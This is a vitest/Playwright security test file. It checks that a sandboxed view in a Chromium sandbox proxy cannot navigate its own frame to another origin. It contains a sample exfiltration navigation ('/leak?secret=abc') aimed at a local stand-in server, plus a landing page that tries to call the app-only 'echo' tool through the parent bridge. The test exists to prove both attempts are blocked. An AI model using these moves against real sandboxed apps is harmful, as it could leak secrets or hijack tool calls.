/**
 * A view navigating its own frame, in Chromium, through the real sandbox
 * proxy. CSP's connect-src does not govern navigation, so a view could try
 * to leave by `location.href = "https://elsewhere/?secret=…"`; what stops it
 * is the proxy document's `frame-src`: the policy it is served with (the
 * view's), and the `frame-src 'none'` it adds to itself once the view's
 * frame exists. A view declaring no `frameDomains` lands on an error page
 * and the other origin is never asked. A view declaring that origin embeds
 * frames from it (the control), yet cannot navigate its own frame there:
 * else the new document, outside the view's policy and in the same opaque
 * origin, would take the view's place at the bridge.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, describe, expect, it } from "vitest";
import { browserSupport, inPage, useBench } from "./harness.js";
import { securityServer, serverLog, showView, viewFrame } from "./security-fixtures.js";

const support = await browserSupport("security-navigation.test.ts");
if (typeof support === "string") console.warn(support);

/** A document that, once loaded in the view's frame, calls the app-only `echo` through whatever its parent forwards, and fetches its own origin. */
const LANDING = `<!doctype html><p id="landed">landed</p><script>
addEventListener("message", (e) => { if (e.data && e.data.id === 77) document.body.dataset.answer = JSON.stringify(e.data); });
window.parent.postMessage({ jsonrpc: "2.0", id: 77, method: "tools/call", params: { name: "echo", arguments: { text: "from elsewhere" } } }, "*");
fetch("/fetched-by-landing").catch(() => {});
</script>`;

const log = serverLog();
/** Paths the other origin was asked for. */
const landed: string[] = [];
let elsewhere = "";
const elsewhereServer = createServer((request, response) => {
  landed.push(request.url ?? "");
  response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
  response.end(LANDING);
});

const setup = useBench(support, async () => {
  await new Promise<void>((resolve) => elsewhereServer.listen(0, "127.0.0.1", resolve));
  elsewhere = `http://127.0.0.1:${(elsewhereServer.address() as AddressInfo).port}`;
  return { servers: { security: securityServer(log), framing: securityServer(log, { csp: { frameDomains: [elsewhere] } }) } };
});

afterAll(async () => {
  elsewhereServer.closeAllConnections();
  await new Promise((resolve) => elsewhereServer.close(resolve));
});

/** The view navigates its own frame to `path` of the other origin; resolves with the frame's URL once it changed. */
async function navigateView(page: Page, path: string): Promise<string> {
  const view = await viewFrame(page);
  await view.evaluate((url) => void (location.href = url), `${elsewhere}${path}`);
  await expect.poll(() => view.url()).not.toMatch(/^about:srcdoc/);
  return view.url();
}

describe.skipIf(typeof support === "string")("a view navigating its own frame (Chromium, through the sandbox proxy)", () => {
  it("a view that declared no frame origin cannot navigate its frame away: the other origin is never asked", async () => {
    await inPage(setup.browser, setup.bench, "security-navigation-refused", async (page) => {
      landed.length = 0;
      const shown = await showView(page, setup.bench);
      // The restrictive default: no frame-src, so default-src 'none' governs frames.
      expect(shown.csp).toMatch(/^default-src 'none'/);
      expect(shown.csp).not.toContain("frame-src");
      const url = await navigateView(page, "/leak?secret=abc");
      expect(url).toMatch(/^chrome-error:/);
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(landed).toEqual([]);
    });
  });

  it("control: a view that declared the origin in frameDomains embeds a frame from it", async () => {
    await inPage(setup.browser, setup.bench, "security-navigation-declared", async (page) => {
      landed.length = 0;
      const shown = await showView(page, setup.bench, {}, "framing");
      expect(shown.csp).toContain(`frame-src ${elsewhere}`);
      const view = await viewFrame(page);
      await view.evaluate((url) => {
        const nested = document.createElement("iframe");
        nested.src = url;
        document.body.appendChild(nested);
      }, `${elsewhere}/nested`);
      await expect.poll(() => landed).toContain("/nested");
    });
  });

  it("even to a declared frame origin, a view cannot navigate its own frame: no document takes its place at the bridge, and its call is never served", async () => {
    await inPage(setup.browser, setup.bench, "security-navigation-takeover", async (page) => {
      landed.length = 0;
      const before = log.calls.echo ?? 0;
      await showView(page, setup.bench, {}, "framing");
      const url = await navigateView(page, "/takeover");
      expect(url).toMatch(/^chrome-error:/);
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(landed).toEqual([]);
      expect((log.calls.echo ?? 0) - before).toBe(0);
    });
  });
});
